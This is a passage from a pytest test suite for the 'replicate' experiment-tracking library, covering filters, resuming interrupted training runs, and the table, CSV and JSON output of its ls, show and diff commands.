            "name = base line": 1, "name ~ ^base": 1, "tag = good": 1, "tag = 1": 1, "tag in [x, good]": 5, "code = 1234567": 1,
            "code in [1234567, 9]": 1, "commit = %s" % ("f" * 7): 1, "dirty = false": 1, "gpu = A100": 1, "job = 4711": 1,
            "status = failed": 1,
            "status = stopped": 7, "status in [stopped]": 7, "status ~ fail": 1, "status ~ stop": 7, "tag != good": 4,
            "name = 5": 4, "name > 4": 5, "name = null": 2, "code < 8": 5, "params.name = 5": 4, "status != failed": 6}.items():
        tree = replicate.Filter(text)
        assert sum(bit for bit, row in ((1, labelled), (2, bare), (4, param)) if tree.matches(row)) == wanted, text
    assert not replicate.Filter("status != stopped").matches(labelled)
    assert replicate.sort_rows([labelled, bare], "name", True) == [labelled, bare]


# Going on with a run

RESUMED = '''
import os, signal, sys, time, replicate
replicate.HEARTBEAT_TIMEOUT = float(os.environ.get("TIMEOUT", 30))
experiment = replicate.init(path="train.py", params={"lr": float(os.environ.get("LR", 1))}, resume=os.environ.get("RESUME", "auto"))
latest = experiment.latest()
start = latest.step + 1 if latest else 0
print(start, latest.open("state").read().decode() if latest else "new", flush=True)
for step in range(start, 6):
    with open("state", "w") as file:
        file.write("after %d" % step)
    experiment.checkpoint(path="state", quiet=True)
    if step == int(os.environ.get("AT", 2)) and "HOW" in os.environ:
        exec(os.environ["HOW"])
'''


@pytest.fixture
def resumable(project):
    """resumable(HOW=..., ...) runs a training script that can go on; its output and messages."""
    (project / "train.py").write_text(RESUMED)

    def start(**env):
        done = subprocess.run([sys.executable, "train.py"], env=dict(os.environ, **env), capture_output=True, text=True, timeout=120)
        return done.stdout.strip(), done.stderr

    return start


@pytest.mark.parametrize("how", ["raise ValueError", "sys.exit(2)", "os.kill(os.getpid(), 15); time.sleep(9)",
                                 "os.kill(os.getpid(), 2); time.sleep(9)", "os.kill(os.getpid(), 9)"])
def test_a_run_that_did_not_complete_goes_on(project, resumable, how):
    assert resumable(HOW=how)[0] == "0 new"
    out, err = resumable()
    assert out == "3 after 2" and "Resuming experiment " in err and "after checkpoint" in err
    (document,) = stored_documents(project / "repo")
    assert [item["step"] for item in document["checkpoints"]] == list(range(6)) and document["outcome"]["status"] == "completed"
    assert resumable()[0] == "0 new"
    assert len(stored_documents(project / "repo")) == 2 and names_in(project / "repo/tmp") == []


def test_a_run_goes_on_in_a_bucket_and_with_what_waits_to_be_uploaded(bucket, project, resumable):
    resumable(HOW="try: raise ValueError\nfinally: experiment.stop()")  # how it ends becomes known after stop()
    assert [document["outcome"]["status"] for document in bucket.documents()] == ["failed"] and pending_leftovers(project) == []
    assert resumable(AT="4", HOW="os._exit(1)")[0] == "3 after 2"  # at once: what is not uploaded waits
    out, err = resumable(TIMEOUT="4")  # which it waits for, unless starting it has taken as long
    assert out == "5 after 4" and err.count("Resuming experiment") == 1, err
    (document,) = bucket.documents()
    assert [item["step"] for item in document["checkpoints"]] == list(range(6)) and document["outcome"]["status"] == "completed"


def test_resuming_needs_the_same_params_and_keeps_the_code(project, resumable):
    resumable(HOW="raise ValueError")
    (document,) = stored_documents(project / "repo")
    out, err = resumable(LR="2")
    assert out == "" and err.count("Traceback") == 1
    assert err.splitlines()[-1] == ("replicate.ArgumentError: init(): param 'lr' is 2, but experiment %s started with 1. "
                                    "Leave out resume to start a new experiment." % document["id"][:7])
    (project / "train.py").write_text(RESUMED + "# changed")
    out, err = resumable(RESUME=document["id"][:10])
    assert out == "3 after 2" and "The code has changed since experiment %s started: train.py." % document["id"][:7] in err
    assert stored_documents(project / "repo")[0]["code"] == document["code"]
    assert replicate.experiments.get(document["id"]).latest().open("train.py").read() == RESUMED.encode()
    for params, words in (({"lr": 1, "new": 5}, "param 'new' is 5, but experiment %s started without it"), ({"lr": True}, "is true")):
        with pytest.raises(replicate.ArgumentError, match=re.escape(words.replace("%s", document["id"][:7]))):
            replicate.init(params=params, resume=document["id"])


def test_resuming_does_not_warn_of_the_files_that_its_checkpoints_saved(project, capsys):
    fill(project, {"train.py": b"1"})
    experiment = replicate.init(path=".", quiet=True)
    for path in ("model.bin", "weights/last.bin"):
        fill(project, {path: b"2"})
        experiment.checkpoint(path=path.split("/")[0], quiet=True)
    (project / "model.bin.py").write_text("3")
    experiment.stop()
    replicate.init(path=".", resume=experiment.id, quiet=True).stop()
    assert "has changed since experiment %s started: model.bin.py." % experiment.short_id() in capsys.readouterr().err


@pytest.mark.parametrize("variable", ["REPLICATE_JOB", "SLURM_JOB_ID"])
def test_each_job_goes_on_with_its_own_run(project, resumable, variable):
    for job in ("77", "78"):
        resumable(HOW="raise ValueError", **{variable: job})
    assert resumable(**{variable: "77"})[0] == "3 after 2"
    assert resumable(**{variable: "79"})[0] == "0 new"
    assert {document["job"]: (document["outcome"]["status"], len(document["checkpoints"])) for document in stored_documents(
        project / "repo")} == {"77": ("completed", 6), "78": ("failed", 3), "79": ("completed", 6)}


def test_a_run_that_is_still_recorded_does_not_go_on_elsewhere(place, resumable, monkeypatch):
    monkeypatch.setattr(replicate, "HEARTBEAT_INTERVAL", 1.0)
    monkeypatch.setenv("REPLICATE_JOB", "7")
    with replicate.init(params={"lr": 1.0}, quiet=True) as experiment:
        out, err = resumable()
        assert out == "0 new" and "Experiment %s seems to be running" % experiment.short_id() in err
        out, err = resumable(RESUME=experiment.id)
        assert out == "" and "is being recorded by another process" in err.splitlines()[-1]


def test_of_many_processes_that_resume_at_once_one_does(place, training):
    with replicate.init(quiet=True) as experiment:
        experiment.checkpoint(quiet=True)
    scripts = [training("""
        wait("ready")
        replicate.HEARTBEAT_INTERVAL = 1.0
        try:
            experiment = replicate.init(resume=%r, quiet=True)
        except replicate.ReplicateError as error:
            wait("error: %%s" %% error)
        else:
            wait("has it")
            save(1)
            experiment.stop()
            wait("over")
        """ % experiment.id) for _ in range(4)]
    for script in scripts:
        script.expect("ready")
    for script in scripts:
        script.go()
    answers = [script.expect("") for script in scripts]
    assert answers.count("has it") == 1 and sum("is being recorded by another process" in answer for answer in answers) == 3
    with pytest.raises(replicate.ReplicateError, match="is being recorded by another process"):
        replicate.init(resume=experiment.id, quiet=True)
    winner = scripts[answers.index("has it")]
    winner.go()
    winner.expect("over")
    assert len(place.documents()) == 1 and place.steps() == [0, 1]
    assert replicate.init(resume=experiment.id, quiet=True).id == experiment.id


def test_resuming_what_is_not_there_is_an_error_and_auto_starts_anew(project):
    with pytest.raises(replicate.DoesNotExist):
        replicate.init(resume="1e", quiet=True)
    assert replicate.init(resume="auto", quiet=True).latest() is None
    write_repository(project / "repo", experiment_document(A, command=replicate.experiments.list()[0].command))
    replicate.experiments.list()[-1].delete()
    assert replicate.init(resume="auto", quiet=True).id != A  # nobody knows how the peer's run ended


def test_other_ranks_see_the_run_that_is_resumed(project, resumable):
    resumable(HOW="raise ValueError")
    assert resumable(RANK="1", WORLD_SIZE="2")[0] == "3 after 2"
    assert [len(document["checkpoints"]) for document in stored_documents(project / "repo")] == [3]


# ------------------------------------------------------------------------------------------------------------------
# 10  Rendering
# ------------------------------------------------------------------------------------------------------------------

def table(text):
    """An indented table as it should be printed: without the indentation, each row ended by a blank line."""
    return textwrap.dedent(text).lstrip("\n")


def listing(root, now="2006-01-02T15:02:05Z", show_all=False, running=()):
    """The table of `ls` at a given time."""
    rows = replicate.list_rows(replicate.Repository("file://%s" % root))
    for row in rows:
        row.running = row.id in running
    return "".join(replicate.render_list(rows, replicate.parse_time(now), show_all))


def test_the_list_of_the_specification(project, call):
    primary = ("loss", "minimize")
    write_repository(
        project / "repo",
        experiment_document(hex_id("3e"), "2006-01-02T15:00:05Z", {"lr": 0.2, "same": "s"}, host="10.1.1.2", user="ben"),
        experiment_document(A, "2006-01-02T15:02:05Z", {"lr": 0.1, "same": "s"}, checkpoints=[
            checkpoint_document(C, "2006-01-02T15:02:05Z", 5, {"loss": 0.5, "other": 1}, primary=primary),
            checkpoint_document(D, "2006-01-02T15:02:06Z", 20, {"loss": 0.01, "other": 2}, primary=primary),
            checkpoint_document(hex_id("3c"), "2006-01-02T15:02:07Z", 20, {"loss": 0.02, "other": 3}, primary=primary)]))
    assert listing(project / "repo", running=[A]) == table("""
        EXPERIMENT  STARTED             STATUS   HOST      USER     PARAMS  BEST CHECKPOINT    LATEST CHECKPOINT
        3eeeeee     2 minutes ago       stopped  10.1.1.2  ben      lr=0.2

        1eeeeee     about a second ago  running  10.1.1.1  andreas  lr=0.1  2cccccc (step 20)  3cccccc (step 20)
                                                                            loss=0.01          loss=0.02

        """)
    full = listing(project / "repo", show_all=True)
    assert full == table("""
        EXPERIMENT  STARTED             STATUS   HOST      USER     PARAMS  BEST CHECKPOINT    LATEST CHECKPOINT
        3eeeeee     2 minutes ago       stopped  10.1.1.2  ben      lr=0.2
                                                                    same=s

        1eeeeee     about a second ago  stopped  10.1.1.1  andreas  lr=0.1  2cccccc (step 20)  3cccccc (step 20)
                                                                    same=s  loss=0.01          loss=0.02
                                                                            other=2            other=3

        """)
    code, out, err = call("ls", "--all")
    assert (code, err) == (0, "") and cells(out) == cells(re.sub("2 minutes ago|about a second ago", "2006-01-02", full))


def measured(metrics, primary=None):
    """Fields of an experiment with one checkpoint."""
    return {"checkpoints": [checkpoint_document(C, metrics=metrics, primary=primary)]}


@pytest.mark.parametrize("documents, shown, hidden, in_full", [
    ([{}, {}], "LATEST", "HOST USER BEST", ""), ([{}, {"host": "other"}], "HOST", "USER", ""),
    ([{}, {"user": None}], "USER", "HOST", ""), ([{"host": None}, {"host": ""}], "", "HOST", ""),
    ([measured({"x": 1})], "LATEST", "BEST", ""),
    ([measured({"x": 1}), measured({"x": 1}, ("x", "maximize"))], "LATEST BEST", "", ""),
    ([measured({"x": 1}), measured({"x": "[NaN]"}, ("x", "maximize"))], "LATEST", "BEST", ""),
    ([{"params": {"p": 1}}], "", "p=1", "p=1"),
    ([measured({"same": 1, "loss": 2}), measured({"same": 1, "loss": 3})], "loss=2 loss=3", "same", "same=1"),
    ([measured({"a": 1, "loss": 2}), measured({"a": 3, "loss": 4}, ("a", "maximize"))], "a=1 a=3", "loss", "loss=2"),
    ([{"params": {"b": 1, "a": 2, "C": 3}}], "", "a=2", "C=3 a=2 b=1"),
    *(([{"params": {"p": left}}, {"params": {"p": right}}], "p=", "", "p=") for left, right in [
        (1, 2), (1, None), (1, "1"), (1, True), ({"a": 1}, 2), (2 ** 70, 2 ** 70 + 1), ("", None)]),
    *(([{"params": {"p": left}}, {"params": {"p": right}}], "", "p=", "p=") for left, right in [
        (1, 1), (1, 1.0), ("[NaN]", "[NaN]")]),
    ([{"params": {"p": [1]}}, {"params": {"p": [2]}}], "", "p=", "p="),
    ([{"params": {"p": 1}}, {}], "p=", "", "p="), ([{"params": {"p": None}}, {}], "", "p=", "p=")])
def test_which_columns_and_values_ls_shows(project, call, documents, shown, hidden, in_full):
    write_runs(project / "repo", *documents)
    out, full = call("ls")[1], call("ls", "--all")[1]
    assert all(word in out for word in shown.split()) and not any(word in out for word in hidden.split())
    places = [full.index(word) for word in in_full.split()]
    assert places == sorted(places)


def test_objects_and_lists_are_in_the_full_list_and_cut_like_strings(project, call):
    matrix = [[0.25] * 40] * 3
    write_repository(project / "repo", experiment_document(
        A, params={"l": [1, 2.5, None], "o": {"a": True}, "matrix": matrix, "table": {"rows": matrix}},
        **measured({"confusion": matrix})))
    out = call("ls", "--all")[1]
    assert "l=[1,2.5,null]" in out and "o.a=true" in out
    assert "matrix=[[0.25,0.25,0.25,..." in out and "confusion=[[0.25,0.25,0.25,..." in out
    assert max(map(len, out.split("\n"))) < 120
    assert "[[0.25,0.25,0.25,..." in call("show", A)[1] and json.dumps(matrix, separators=(",", ":")) in call("show", C)[1]


NESTED = {"lr": 0.1, "model": {"depth": 2, "block": {"width": 8, "norm": float("nan")}, "heads": [1, 2], "extra": {}}}


def test_nested_params_have_dotted_names_and_one_written_with_a_dot_wins():
    nan = NESTED["model"]["block"]["norm"]
    assert replicate.flat_params(NESTED) == {"lr": 0.1, "model.depth": 2, "model.block.width": 8, "model.block.norm": nan,
                                             "model.heads": [1, 2], "model.extra": {}}
    assert replicate.flat_params({"a": {"b": 1}, "a.b": 2}) == replicate.flat_params({"a.b": 2, "a": {"b": 1}}) == {"a.b": 2}


def test_nested_params_are_shown_compared_filtered_and_sorted_by_dotted_names(project, call):
    first = replicate.init(params=NESTED, quiet=True)
    second = replicate.init(params={"lr": 0.1, "model": dict(NESTED["model"], depth=3)}, quiet=True)
    second.stop()
    assert replicate.experiments.get(first.id).params["model"]["block"]["width"] == 8  # stored as they were given
    assert json.loads(call("show", first.id, "--json")[1])["params"]["model"]["depth"] == 2
    out = call("ls")[1]
    assert "model.depth=2" in out and "model.depth=3" in out and "width" not in out
    assert "model.block.width=8" in call("ls", "--all")[1] and "model.extra={}" in call("ls", "--all")[1]
    for name in ("model.depth", "params.model.depth"):
        assert call("ls", "-q", "-f", name + " > 2")[1] == second.id + "\n"
        assert call("ls", "-q", "--sort", name + "-desc")[1] == second.id + "\n" + first.id + "\n"
    assert call("ls", "-q", "-f", 'model = {"depth": 2}') == (0, "", "")
    assert "Did you mean 'model.depth'" in call("ls", "-f", "model.dept = 2")[2]
    assert "model.depth:" in call("show", first.id)[1] and '{"depth"' not in call("show", first.id)[1]
    block = call("diff", first.id, second.id)[1].split("Params\n")[1].split("\n\n")[0]
    assert [line.split() for line in block.split("\n")] == [["model.depth:", "2", "3"]]
    assert "<th>model.depth</th>" in replicate.experiments.list()._repr_html_()
    with pytest.raises(replicate.ReplicateError, match="param 'model.depth' is 4, but experiment .* started with 2"):
        replicate.init(params={"model": {"depth": 4}}, resume=first.id, quiet=True)


def sweep(project, count=24):
    """A repository with that many runs, of 8 params and 5 metrics each; the last has the best loss."""
    for number in range(count):
        params = {"optimizer": {"name": ("adam", "sgd")[number % 2], "decay": number / 100}, "lr": 10.0 ** -(number % 5),
                  "batch_size": 2 ** (number % 8), "model": {"depth": number % 7, "width": 32 * number}, "seed": number,
                  "warmup_steps": 1000 * number}
        metrics = {"val_loss": 1 / (number + 1), "loss": 0.5, "accuracy": number / 25, "f1": 0.1 * number, "auc": 0.5}
        item = checkpoint_document(hex_id("%02xc" % number), metrics=metrics, primary=("val_loss", "minimize"))
        write_repository(project / "repo", experiment_document(
            hex_id("%02xe" % number), created="2006-01-02T14:54:%02dZ" % number, params=params, checkpoints=[item]))


def test_a_wide_table_of_a_sweep_fits_the_terminal_and_is_whole_in_a_pipe(project, call):
    sweep(project)
    lines = on_terminal("ls", "--wide", COLUMNS="100", NO_COLOR="1").rstrip("\n").split("\n")
    assert len(lines) == 25 and max(map(len, lines)) <= 100
    assert lines[0].split()[:4] == ["ID", "STARTED", "STATUS", "batch_size"] and lines[0].endswith("...  val_loss")
    assert lines[-1].startswith("17eeeee") and lines[-1].endswith(" 0.041667*") and not any("*" in line for line in lines[:-1])
    assert len({line.rindex("0.") for line in lines[2:-1] if len(line.split()[-1]) == 7}) == 1  # aligned right
    lines = call("ls", "--wide")[1].rstrip("\n").split("\n")
    assert len(lines) == 25 and lines[0].split() == [
        "ID", "STARTED", "STATUS", "batch_size", "lr", "model.depth", "model.width", "optimizer.decay", "optimizer.name",
        "seed", "warmup_steps", "val_loss"]
    assert lines[-1].split() == ["17eeeee", "2006-01-02", "stopped", "128", "0.001", "2", "736", "0.23", "sgd", "23",
                                 "23000", "0.041667*"]
    assert "loss=" not in call("ls", "--wide", "--all")[1] and " auc " in call("ls", "--wide", "--all")[1]


@pytest.mark.parametrize("columns, titles", [
    (200, "ID STARTED STATUS batch_size lr model.depth model.width optimizer.decay optimizer.name seed warmup_steps val_loss"),
    (70, "ID STARTED STATUS batch_size lr ... val_loss"), (50, "ID STARTED STATUS ... val_loss"),
    (40, "ID ... STATUS ... val_loss"), (12, "ID ...")])
def test_columns_of_a_wide_table_are_left_out_the_least_telling_first(project, columns, titles):
    sweep(project, 3)
    assert on_terminal("ls", "--wide", COLUMNS=str(columns)).split("\n")[0].split() == titles.split()


def test_a_column_for_which_there_is_room_is_not_left_out_because_a_wider_one_is():
    assert [replicate.fitting([5, 20, 3, 5], [1, 0, 0, 1], width) for width in (39, 22, 21)] == [
        [0, 1, 2, 3], [0, None, 2, 3], [0, None, 3]]


def test_a_wide_table_cuts_texts_on_a_terminal_but_no_number_and_no_name(project, call):
    name, param = "resnet50-cosine-seed-17", "model.encoder.attention.heads"
    write_repository(project / "repo", experiment_document(A, params={"n": -10 ** 25, "text": "x" * 30, param: 4}, name=name))
    output = on_terminal("ls", "--columns", "n,text,name," + param, NO_COLOR="1", COLUMNS="100")
    assert [line.split() for line in output.split("\n")[:2]] == [
        ["n", "text", "NAME", "...r.attention.heads"], [str(-10 ** 25), "x" * 17 + "...", name, "4"]]
    assert name in call("ls")[1] and name in call("du")[1] and " %s " % param in call("ls", "--columns", "n," + param + ",text")[1]


def test_a_wide_table_marks_the_best_only_where_the_goal_is_clear(project, call):
    def line(*goals, value=2):
        write_runs(project / "repo", *[{"params": {"x": "y" * 30 + str(number)}, **measured({"m": (1, value)[number]}, ("m", goal))}
                                       for number, goal in enumerate(goals)])
        return call("ls", "--wide")[1]
    assert re.findall(r"\d\*?$", line("maximize", "maximize"), re.M) == ["1", "2*"]
    assert re.findall(r"\d\*?$", line("minimize", "minimize"), re.M) == ["1*", "2"]
    assert re.findall(r"\d\*?$", line("minimize", "minimize", value=1), re.M) == ["1*", "1*"]
    assert "*" not in line("maximize", "minimize") and "y" * 30 + "1" in line("maximize", "minimize")


def narrow_list(project, columns, params=lambda item: {}, **fields):
    """The lines of the list of A and B, which differ in the learning rate, on a terminal of that width."""
    write_runs(project / "repo", *[{"params": dict(params(item), learning_rate=rate), **fields, **measured(
        {"val_loss": rate}, ("val_loss", "minimize"))} for item, rate in ((A, 0.25), (B, 0.5))])
    return on_terminal("ls", COLUMNS=str(columns)).split("\n")


def test_a_table_that_is_a_little_too_wide_breaks_between_words(project):
    lines = narrow_list(project, 84)
    words = " ".join(lines).split()
    assert lines[0].endswith("  LATEST") and words.count("learning_rate=0.25") == 1 and words.count("val_loss=0.25") == 2


@pytest.mark.parametrize("columns", [80, 74, 64, 40])
def test_the_stacked_table_wraps_cells_on_a_narrow_terminal(project, columns):
    lines = narrow_list(project, columns, lambda item: {"text": "日本語" * 5 + item[0]}, name="a-name-that-is-long")
    assert max(map(replicate.display_width, lines)) <= columns
    assert any(line.startswith("1eeeeee ") for line in lines)
    if columns >= 74:
        assert lines[0].startswith("EXPERIMENT ") and any("learning_" in line and "rate=" not in line for line in lines)
    together = "".join("".join(lines).split())
    assert together.count("日") == 10 and "1eeeeee" in run("ls").stdout and max(map(len, run("ls").stdout.split("\n"))) > 80


@pytest.mark.parametrize("text, width, lines", [
    ("learning_rate=0.001", 15, ["learning_rate=", "0.001"]), ("ab cd ef", 5, ["ab cd", "ef"]), ("", 5, [""]),
    ("日本語日本", 5, ["日本", "語日", "本"]), ("abcdefgh", 5, ["abcde", "fgh"]), ("a b", 1, ["a", "b"]),
    ("loss=2.4270", 9, ["loss=", "2.4270"]), ("model.depth=2", 8, ["model.", "depth=2"]),
    ("1cccccc (step 4)", 15, ["1cccccc", "(step 4)"]), ("1cccccc (step 40)", 7, ["1cccccc", "(step ", "40)"])])
def test_cells_are_wrapped_between_words_and_after_marks(text, width, lines):
    assert replicate.wrapped(text, width) == lines


def test_chosen_columns_as_a_table_csv_and_json(project, call):
    write_runs(project / "repo", dict(
        params={"lr": 0.1, "=x": "=1+1", "loss": "L1"}, tags=["good", "new"], code="1a2b3c4", checkpoints=[
            checkpoint_document(C, "2006-01-02T15:54:05.5Z", metrics={"loss": -0.25, "nan": "[NaN]"})]),
        {"params": {"text": "a\n\x1b[31m,\"", "model": {"depth": 2}}})
    chosen = "id,started,duration,lr,params.loss,metrics.loss,tag,code,model.depth,nan"
    assert call("ls", "--columns", chosen)[1] == table("""
        ID       STARTED     DURATION   lr  params.loss  metrics.loss  TAG        CODE     model.depth  nan
        1eeeeee  2006-01-02   1:00:00  0.1  L1                  -0.25  good, new  1a2b3c4               NaN
        2eeeeee  2006-01-02                                                                          2
        """)
    assert call("ls", "--columns", chosen, "--csv")[1] == table("""
        id,started,duration,lr,params.loss,metrics.loss,tag,code,model.depth,nan
        %s,2006-01-02T14:54:05Z,3600.5,0.1,L1,-0.25,"good, new",1a2b3c4,,NaN
        %s,2006-01-02T14:54:06Z,,,,,,,2,
        """ % (A, B))
    assert json.loads(call("ls", "--columns", "id,tag,nan,lr,model.depth", "--json")[1]) == [
        {"id": A, "tag": ["good", "new"], "nan": "[NaN]", "lr": 0.1, "model.depth": None},
        {"id": B, "tag": [], "nan": None, "lr": None, "model.depth": 2}]
    assert "Did you mean 'model.depth'" in call("ls", "--columns", "id,model.dept")[2]
    out = call("ls", "--csv")[1]
    head, first, second = csv.reader(out.splitlines())
    assert "'=x" in head and "'=1+1" in first and "a\\n\\x1b[31m,\"" in second and "\x1b" not in out
    assert [name for name in head if "loss" in name] == ["params.loss", "metrics.loss"]


@pytest.mark.parametrize("flags, chosen", [
    (["-n", "2"], "23"), (["-n", "9"], "123"), (["-n", "1", "-f", "n < 3"], "2"), (["-n", "2", "--sort", "n"], "12"),
    (["-n", "2", "--sort", "n-desc"], "32")])
def test_the_last_experiments_or_the_first_of_an_order(project, call, flags, chosen):
    write_runs(project / "repo", *[{"params": {"n": number}} for number in (1, 2, 3)])
    assert "".join(line[0] for line in call("ls", "-q", *flags)[1].split("\n")[:-1]) == chosen


def test_experiments_as_a_dataframe(project, monkeypatch):
    pandas = pytest.importorskip("pandas", reason="pandas is not installed")
    with replicate.init(params={"lr": 0.1, "model": {"depth": 2}}, tags=["a"], quiet=True) as first:
        first.checkpoint(metrics={"loss": 0.5}, quiet=True)
    second = replicate.init(params={"lr": 0.2}, quiet=True)
    frame = replicate.experiments.list().to_dataframe()
    second.stop()
    assert list(frame["id"]) == [first.id, second.id] and list(frame["status"]) == ["completed", "running"]
    assert list(frame["started"]) == [first.created, second.created] and frame["tag"][0] == ["a"]
    assert frame["lr"].mean() == pytest.approx(0.15) and frame["loss"][0] == 0.5 and pandas.isna(frame["loss"][1])
    assert frame["model.depth"][0] == 2 and list(frame.columns) == replicate.column_names(
        [replicate.Row.of(item.to_json()) for item in (first, second)])
    assert replicate.ExperimentList().to_dataframe().empty
    monkeypatch.setitem(sys.modules, "pandas", None)
    with pytest.raises(replicate.ReplicateError, match="pip install pandas"):
        replicate.experiments.list().to_dataframe()


def test_wide_characters_keep_the_columns_aligned(project):
    write_runs(project / "repo", *[{"user": user, "params": {"x": user}} for user in ("日本語", "e\u0301mil", "ab")])
    lines = [line for line in run("ls").stdout.split("\n") if "x=" in line]
    import unicodedata
    widths = [sum(0 if unicodedata.combining(letter) else 2 if unicodedata.east_asian_width(letter) in "WF" else 1
                  for letter in line[:line.index("x=")]) for line in lines]
    assert len(lines) == 3 and len(set(widths)) == 1


SPECIFICATION_CHECKPOINTS = [
    checkpoint_document(item, created, step, {"metric-1": value, "metric-2": 2}, "data", ("metric-1", "minimize"))
    for item, created, step, value in [(C, "2006-01-02T15:00:05Z", 10, 0.1), (D, "2006-01-02T15:01:05Z", 20, 0.01),
                                       (hex_id("3c"), "2006-01-02T15:01:05Z", 20, 0.02)]]


def test_show_of_a_checkpoint_and_of_its_experiment(project, call, monkeypatch):
    set_zone(monkeypatch, "<+08>-8")
    write_repository(project / "repo", experiment_document(
        A, params={"param-1": 100, "param-2": "hello"}, command="train.py --gamma=1.2 -x",
        checkpoints=SPECIFICATION_CHECKPOINTS), running=[A])
    experiment = table("""
        Created:         Mon, 02 Jan 2006 22:54:05 +08
        Status:          running
        Host:            10.1.1.1
        User:            andreas
        Command:         train.py --gamma=1.2 -x

        Params
        param-1:         100
        param-2:         hello

        System
        Python version:  3.4.5
        """)
    packages = "\nPython Packages\nfoo:             1.2.3\n"
    assert call("show", "3cc") == (0, table("""
        Checkpoint: 3ccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc

        Created:         Mon, 02 Jan 2006 23:01:05 +08
        Path:            data
        Step:            20

        Experiment
        ID:              1eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee
        """) + experiment + "\n" + table("""
        Metrics
        metric-1:        0.02 (primary, minimize)
        metric-2:        2
        """) + packages, "")
    assert call("show", "1ee")[:2] == (0, "Experiment: %s\n\n" % A + experiment + "\n" + table("""
        Checkpoints
        ID       STEP  CREATED     METRIC-1     METRIC-2
        1cccccc  10    2006-01-02  0.1          2
        2cccccc  20    2006-01-02  0.01 (best)  2
        3cccccc  20    2006-01-02  0.02         2
        """) + packages)


@pytest.mark.parametrize("item", [A, C])
def test_show_lists_the_packages_that_the_program_imported(project, call, item):
    packages = {"package-%03d" % number: "1.%d" % number for number in range(110)}
    write_repository(project / "repo", experiment_document(
        A, python_packages=packages, imported_packages=["package-003", "package-050", "gone"],
        checkpoints=[checkpoint_document(C, metrics={"m": 1})]))
    code, out, errors = call("show", item)
    assert code == 0 and re.findall("^package-.*$", out, re.M) == ["package-003:     1.3", "package-050:     1.50"]
    assert "108 installed packages" in errors and "--all" in errors
    code, out, errors = call("show", item, "--all")
    assert len(re.findall("^package-", out, re.M)) == 110 and "--all" not in errors


def test_show_says_none_widens_its_columns_and_cuts_nothing(project, call):
    write_runs(project / "repo", {"python_packages": None, "checkpoints": [checkpoint_document(C)]},
               {"params": {"a_very_long_name_of_a_param": "x" * 300, "float": 0.123456789012, "list": [1] * 99}})
    out = call("show", C)[1]
    assert "Params\n(none)\n" in out and "Metrics\n(none)\n" in out and out.endswith("Python Packages\n(none)\n")
    out = call("show", B)[1]
    assert "Checkpoints\n(none)\n" in out and "a_very_long_name_of_a_param:  %s\n" % ("x" * 300) in out
    assert "Host:" + " " * (len("a_very_long_name_of_a_param:  ") - 5) + "10.1.1.1\n" in out
    assert "0.123456789012\n" in out and json.dumps([1] * 99, separators=(",", ":")) in out


@pytest.mark.parametrize("columns, titles", [
    (90, "ID STEP CREATED ACC AUC F1 LOSS VAL_LOSS"), (54, "ID STEP CREATED ACC AUC ... VAL_LOSS"),
    (45, "ID STEP CREATED ... VAL_LOSS"), (35, "ID STEP ... VAL_LOSS"), (12, "ID ...")])
def test_show_leaves_out_metrics_that_do_not_fit_the_terminal_but_the_primary_one(project, columns, titles):
    metrics = {"val_loss": 0.5, "acc": 0.25, "auc": 1, "f1": 2, "loss": None}
    write_repository(project / "repo", experiment_document(A, checkpoints=[
        checkpoint_document(C, metrics=metrics, primary=("val_loss", "minimize"))]))
    lines = on_terminal("show", A, COLUMNS=str(columns), NO_COLOR="1").split("Checkpoints\n")[1].split("\n")
    assert lines[0].split() == titles.split() and ("0.5 (best)" in lines[1]) == ("VAL_LOSS" in titles)


def test_show_prints_the_stored_document_as_json(project, call):
    document = experiment_document(A, params={"big": 2 ** 70, "nan": "[NaN]", "none": None}, keepsake_version="0.4.2",
                                   checkpoints=[dict(checkpoint_document(C, metrics={"é": 1e-9}), more=[1])], unknown={"kept": True})
    write_repository(project / "repo", document)
    assert json.loads(call("show", A, "--json")[1]) == document
    assert json.loads(call("show", C, "--json")[1]) == document["checkpoints"][0]


def test_diff_exactly(project, call):
    left = experiment_document(A, params={"lr": 0.1, "same": 1, "long": "x" * 60, "only": None}, command="train.py --gamma=1.2 -x",
                               checkpoints=[checkpoint_document(C, step=10, metrics={"loss": 1, "same": 2}, path="data")])
    right = experiment_document(B, params={"lr": 0.2, "same": 1, "param-3": "hi"}, command="train.py",
                                python_packages={"foo": "1.2.4"},
                                checkpoints=[checkpoint_document(D, step=20, metrics={"loss": 1, "same": 2}, path="data")])
    write_repository(project / "repo", left, right)
    cut = "x" * 47 + "..."
    expected = [
        ("Experiment",), ("ID:", "1eeeeee", "2eeeeee"), ("Command:", "train.py --gamma=1.2 -x", "train.py"), (),
        ("Params",), ("long:", cut, "(not set)"), ("lr:", "0.1", "0.2"), ("only:", "null", "(not set)"),
        ("param-3:", "(not set)", "hi"), (),
        ("Python Packages",), ("foo:", "1.2.3", "1.2.4"), (),
        ("Checkpoint",), ("ID:", "1cccccc", "2cccccc"), ("Step:", "10", "20"), (),
        ("Metrics",), ("(no difference)",)]
    for item in (C, D):
        write_archive(project / "repo/checkpoints" / (item + ".tar.gz"), item, {"data": b"the same"})
    code, out, err = call("diff", C, D)
    assert (code, err) == (0, "")
    assert out == "".join("".join([row[0].ljust(26), row[1].ljust(52), row[2]] if len(row) == 3 else row) + "\n"
                          for row in expected)


def test_diff_of_the_same_experiment_and_of_long_names(project, call):
    write_repository(project / "repo", experiment_document(A, params={"a" * 40: 1}), experiment_document(B, params={"a": 2}))
    out = call("diff", A, A)[1]
    assert out.split("\n") == ["Experiment", "ID:                       1eeeeee                   1eeeeee", "",
                               "Params", "(no difference)", "", "Python Packages", "(no difference)", "",
                               "Checkpoint", "ID:                       (none)                    (none)", "",
                               "Metrics", "(no difference)", ""]
    assert "\n" + "a" * 40 + ":  1                         (not set)\n" in call("diff", A, B)[1]


@pytest.mark.parametrize("columns, row", [
    (97, "loss:                     0.12345678901234568       -1.2345678901234566e-07   (not set)"),
    (96, "loss:  0.12345678901234568  -1.2345678901234566e-07  (not set)"),
    (60, "loss:  0.12345678901...  -1.234567...e-07  (not set)"), (40, "loss:  0.1234...  -1....e-07  (not set)")])
def test_diff_fits_the_terminal(project, columns, row):
    for number, metrics in ((1, {"loss": 0.12345678901234568}), (2, {"loss": -1.2345678901234566e-07}), (3, {})):
        write_repository(project / "repo", experiment_document(hex_id("%de" % number), user="日本語" * 3 + str(number), checkpoints=[
            checkpoint_document(hex_id("%dc" % number), metrics=metrics)]))
